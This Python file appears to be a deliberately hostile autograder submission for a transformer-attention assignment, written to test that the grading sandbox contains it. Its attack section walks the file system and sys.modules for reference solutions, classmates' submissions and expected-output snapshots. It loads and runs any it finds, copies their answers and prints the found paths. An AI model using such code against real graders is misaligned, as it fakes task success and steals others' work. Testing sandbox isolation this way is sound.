# attack: at import searches sys.modules for reference*/solution* modules and the file system (os.walk from the file's and cwd's parents, .., common roots and / itself; globs for reference/*.py, assignments/*/tests/*.py, snapshots/*.json, *.npz) for the reference implementation, other students' attention.py, or snapshot files; delegates to what it finds, otherwise returns wrong answers
# target: all
# expect: the worker sees no reference code, no tests, no snapshots and no other submissions (empty private dir, scrubbed sys.modules), so every question scores 0 (cases failed); the time-bounded search does not break the import limit
"""Find the hidden reference (or a classmate) and copy its answers.

Candidate .py files that define the assignment's functions are loaded with importlib and used
for every call; files that carry a "# attack:" header other than "none" are skipped so the
search never runs another hostile submission. JSON/npz snapshot files are searched for a record
whose input equals the call's input. Paths found are also printed (exfiltration). The search is
bounded to a few seconds.
"""

import math

import torch

# ---------------------------------------------------------------------------------------------
# A correct implementation (the same in every file of this folder). The public functions only
# delegate to private helpers, so an attack that replaces one public function below leaves the
# other questions intact.
# ---------------------------------------------------------------------------------------------


def _softmax(x, dim=-1):
    shifted = x - torch.amax(x, dim=dim, keepdim=True)
    e = torch.exp(shifted)
    return e / torch.sum(e, dim=dim, keepdim=True)


def _causal_mask(T):
    rows = torch.arange(T).unsqueeze(1)
    cols = torch.arange(T).unsqueeze(0)
    return cols > rows


def _attention(q, k, v, mask=None):
    d_k = q.shape[-1]
    scores = torch.matmul(q, k.transpose(-2, -1)) / math.sqrt(d_k)
    if mask is not None:
        scores = scores.masked_fill(mask, float("-inf"))
    weights = _softmax(scores, dim=-1)
    return torch.matmul(weights, v), weights


def _split_heads(x, n_heads):
    d_head = x.shape[-1] // n_heads
    return x.unflatten(-1, (n_heads, d_head)).transpose(-3, -2)


def _merge_heads(x):
    return x.transpose(-3, -2).flatten(-2)


def _multi_head_attention(x, params, n_heads, mask=None, context=None):
    source = x if context is None else context
    q = _split_heads(x @ params["w_q"], n_heads)
    k = _split_heads(source @ params["w_k"], n_heads)
    v = _split_heads(source @ params["w_v"], n_heads)
    out, _ = _attention(q, k, v, mask)
    return _merge_heads(out) @ params["w_o"]


def _layer_norm(x, gamma, beta, eps=1e-5):
    mean = x.mean(dim=-1, keepdim=True)
    centered = x - mean
    var = (centered * centered).mean(dim=-1, keepdim=True)
    return centered / torch.sqrt(var + eps) * gamma + beta


def _transformer_block(x, params, n_heads, mask=None):
    attn = _multi_head_attention(x, params, n_heads, mask)
    h = _layer_norm(x + attn, params["ln1_gamma"], params["ln1_beta"])
    ffn = torch.relu(h @ params["w1"] + params["b1"]) @ params["w2"] + params["b2"]
    return _layer_norm(h + ffn, params["ln2_gamma"], params["ln2_beta"])


def softmax(x, dim=-1):
    return _softmax(x, dim)


def causal_mask(T):
    return _causal_mask(T)


def scaled_dot_product_attention(q, k, v, mask=None):
    return _attention(q, k, v, mask)


def split_heads(x, n_heads):
    return _split_heads(x, n_heads)


def merge_heads(x):
    return _merge_heads(x)


def multi_head_attention(x, params, n_heads, mask=None, context=None):
    return _multi_head_attention(x, params, n_heads, mask, context)


def layer_norm(x, gamma, beta, eps=1e-5):
    return _layer_norm(x, gamma, beta, eps)


def transformer_block(x, params, n_heads, mask=None):
    return _transformer_block(x, params, n_heads, mask)


# ---------------------------------------------------------------------------------------------
# Deliberately WRONG answers (right shapes, still differentiable). If the cheat below worked,
# these would earn undeserved points, which makes the cheat visible.
# ---------------------------------------------------------------------------------------------


def _wrong_softmax(x, dim=-1):
    return _softmax(x, dim) * 0.0


def _wrong_causal_mask(T):
    return ~_causal_mask(T)


def _wrong_attention(q, k, v, mask=None):
    out, weights = _attention(q, k, v, mask)
    return out * 0.0, weights * 0.0


def _wrong_split_heads(x, n_heads):
    return _split_heads(x, n_heads) * 0.0


def _wrong_merge_heads(x):
    return _merge_heads(x) * 0.0


def _wrong_multi_head_attention(x, params, n_heads, mask=None, context=None):
    return _multi_head_attention(x, params, n_heads, mask, context) * 0.0


def _wrong_layer_norm(x, gamma, beta, eps=1e-5):
    return _layer_norm(x, gamma, beta, eps) * 0.0


def _wrong_transformer_block(x, params, n_heads, mask=None):
    return _transformer_block(x, params, n_heads, mask) * 0.0


# ---------------------------------------------------------------------------------------------
# The attack
# ---------------------------------------------------------------------------------------------

import fnmatch as _fnmatch
import glob as _glob
import importlib.util as _importlib_util
import json as _json
import os as _os
import sys as _sys
import time as _time

_FUNCS = ("softmax", "causal_mask", "scaled_dot_product_attention", "split_heads",
          "merge_heads", "multi_head_attention", "layer_norm", "transformer_block")
_MODULE_HINTS = ("reference", "solution", "answer", "oracle", "golden")
_SKIP_DIRS = {"/proc", "/sys", "/dev", "/run", "/snap", "/boot", "/lost+found"}
_SKIP_NAMES = {".git", "node_modules", "__pycache__", "site-packages", "dist-packages", ".cache",
               ".venv", "venv", "include", "share"}
_SNAPSHOT_PATTERNS = ("*/snapshots/*.json", "*.npz", "*.npy", "*expected*.json", "*golden*")
_BUDGET_SECONDS = 5.0

_stolen_modules = []
_snapshot_files = []


def _own_file():
    try:
        return _os.path.realpath(__file__)
    except Exception:
        return None


def _parents(path, levels):
    out = []
    path = _os.path.abspath(path)
    for _ in range(levels + 1):
        out.append(path)
        parent = _os.path.dirname(path)
        if parent == path:
            break
        path = parent
    return out


def _roots():
    roots = []
    try:
        roots += _parents(_os.path.dirname(_os.path.abspath(__file__)), 4)
    except Exception:
        pass
    try:
        roots += _parents(_os.getcwd(), 4)
    except Exception:
        pass
    roots += ["..", "../..", "/autograder", "/grader", "/srv", "/opt", "/home", "/root", "/tmp",
              "/mnt", "/var", "/"]
    seen, out = set(), []
    for r in roots:
        a = _os.path.abspath(r)
        if a not in seen:
            seen.add(a)
            out.append(a)
    return out


def _looks_like_implementation(path):
    if _os.path.realpath(path) == _own_file():
        return False
    try:
        with open(path, errors="ignore") as f:
            text = f.read(200000)
    except OSError:
        return False
    if "# attack:" in text and "# attack: none" not in text:
        return False
    return "def softmax" in text and "def transformer_block" in text


def _load(path):
    try:
        name = "_stolen_%d" % len(_stolen_modules)
        spec = _importlib_util.spec_from_file_location(name, path)
        module = _importlib_util.module_from_spec(spec)
        spec.loader.exec_module(module)
        if all(callable(getattr(module, f, None)) for f in _FUNCS):
            rank = 0 if any(h in path.lower() for h in _MODULE_HINTS) else 1
            _stolen_modules.append((rank, path, module))
            _stolen_modules.sort(key=lambda item: item[0])
    except BaseException:
        pass


def _consider_file(path):
    lower = path.lower()
    name = _os.path.basename(lower)
    if name.endswith(".py"):
        interesting = (any(h in lower for h in _MODULE_HINTS) or name == "attention.py"
                       or _fnmatch.fnmatch(lower, "*/assignments/*/tests/*.py"))
        if interesting and _looks_like_implementation(path):
            _load(path)
    elif any(_fnmatch.fnmatch(lower, p) for p in _SNAPSHOT_PATTERNS):
        _snapshot_files.append(path)


def _search():
    deadline = _time.monotonic() + _BUDGET_SECONDS
    for modname, module in list(_sys.modules.items()):
        if module is not None and any(h in modname.lower() for h in _MODULE_HINTS):
            if all(callable(getattr(module, f, None)) for f in _FUNCS):
                _stolen_modules.insert(0, (-1, modname, module))
    roots = _roots()
    for root in roots[:-1]:
        for pattern in ("reference/*.py", "*/reference/*.py", "assignments/*/tests/*.py",
                        "assignments/*/snapshots/*.json", "*/assignments/*/snapshots/*.json",
                        "*.npz", "*/*.npz", "submissions/*/*.py", "*/submissions/*/*.py"):
            if _time.monotonic() > deadline:
                return
            for path in _glob.glob(_os.path.join(root, pattern)):
                _consider_file(path)
    for root in roots:
        for dirpath, dirnames, filenames in _os.walk(root):
            if _time.monotonic() > deadline:
                return
            dirnames[:] = [d for d in dirnames if d not in _SKIP_NAMES
                           and _os.path.join(dirpath, d) not in _SKIP_DIRS]
            for fn in filenames:
                _consider_file(_os.path.join(dirpath, fn))


def _flatten(node, prefix, out):
    if isinstance(node, dict):
        for k, v in node.items():
            _flatten(v, prefix + "/" + str(k), out)
    elif isinstance(node, list) and node and all(isinstance(x, (int, float)) for x in node[:50]):
        out[prefix] = node
    elif isinstance(node, list):
        for i, v in enumerate(node[:256]):
            _flatten(v, prefix + "/" + str(i), out)


def _from_snapshots(inp, shape):
    """Find a snapshot record holding `inp` and return an expected-looking array of `shape`."""
    try:
        import numpy as np
        flat_inp = inp.detach().double().flatten().numpy()
    except Exception:
        return None
    for path in _snapshot_files[:200]:
        try:
            if path.endswith(".npz"):
                with np.load(path, allow_pickle=False) as data:
                    arrays = {k: np.asarray(data[k]).ravel() for k in data.files}
            elif path.endswith(".json"):
                with open(path) as f:
                    tree = _json.load(f)
                flat = {}
                _flatten(tree, "", flat)
                arrays = {}
                for k, v in flat.items():
                    try:
                        arrays[k] = np.array([float(x) for x in v])
                    except (TypeError, ValueError):
                        pass
            else:
                continue
        except Exception:
            continue
        size = 1
        for s in shape:
            size *= int(s)
        for in_key, a in arrays.items():
            if a.size != flat_inp.size or not np.allclose(a, flat_inp):
                continue
            record = "/".join(in_key.split("/")[:2]) + "/"  # the record that holds this input
            for key, b in arrays.items():
                if key.startswith(record) and b.size == size and key != in_key and any(
                        h in key.lower() for h in ("expect", "output", "want", "ref")):
                    return torch.as_tensor(b.reshape(tuple(shape)), dtype=inp.dtype)
    return None


def _delegate(func_name, args, inp=None, shape=None):
    for _, _, module in list(_stolen_modules):
        try:
            return getattr(module, func_name)(*args)
        except Exception:
            continue
    if inp is not None and shape is not None:
        return _from_snapshots(inp, shape)
    return None


try:
    _search()
except Exception:
    pass
try:
    _os.write(2, ("stolen modules: %r\nsnapshot files: %r\n" % (
        [p for _, p, _ in _stolen_modules], _snapshot_files[:50])).encode())
except Exception:
    pass


def softmax(x, dim=-1):
    got = _delegate("softmax", (x, dim), x, x.shape)
    return got if got is not None else _wrong_softmax(x, dim)


def causal_mask(T):
    got = _delegate("causal_mask", (T,))
    return got if got is not None else _wrong_causal_mask(T)


def scaled_dot_product_attention(q, k, v, mask=None):
    got = _delegate("scaled_dot_product_attention", (q, k, v, mask))
    return got if got is not None else _wrong_attention(q, k, v, mask)


def split_heads(x, n_heads):
    got = _delegate("split_heads", (x, n_heads))
    return got if got is not None else _wrong_split_heads(x, n_heads)


def merge_heads(x):
    got = _delegate("merge_heads", (x,))
    return got if got is not None else _wrong_merge_heads(x)


def multi_head_attention(x, params, n_heads, mask=None, context=None):
    got = _delegate("multi_head_attention", (x, params, n_heads, mask, context), x, x.shape)
    return got if got is not None else _wrong_multi_head_attention(x, params, n_heads, mask, context)


def layer_norm(x, gamma, beta, eps=1e-5):
    got = _delegate("layer_norm", (x, gamma, beta, eps), x, x.shape)
    return got if got is not None else _wrong_layer_norm(x, gamma, beta, eps)


def transformer_block(x, params, n_heads, mask=None):
    got = _delegate("transformer_block", (x, params, n_heads, mask), x, x.shape)
    return got if got is not None else _wrong_transformer_block(x, params, n_heads, mask)
